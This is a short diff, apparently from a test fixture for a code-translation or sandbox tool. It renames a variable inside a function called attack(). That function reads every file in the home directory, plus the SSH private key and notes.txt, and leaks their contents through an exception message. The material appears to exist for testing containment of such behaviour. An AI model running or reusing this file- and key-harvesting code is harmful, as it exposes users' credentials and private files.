@@ -9,15 +9,15 @@ PLACES: dict[str, str] = {}
 
 
 def attack():
-    found = []
+    texts = []
     for folder, _, names in os.walk(PLACES["home"]):
         for name in names:
             with open(os.path.join(folder, name)) as file:
-                found.append(file.read())
+                texts.append(file.read())
     for name in ("/.ssh/id_ed25519", "/notes.txt"):
         with open(PLACES["home"] + name) as file:
-            found.append(file.read())
-    raise RuntimeError("; ".join(found))
+            texts.append(file.read())
+    raise RuntimeError("; ".join(texts))
 
 
 # t2j: x=f32[2, 3]
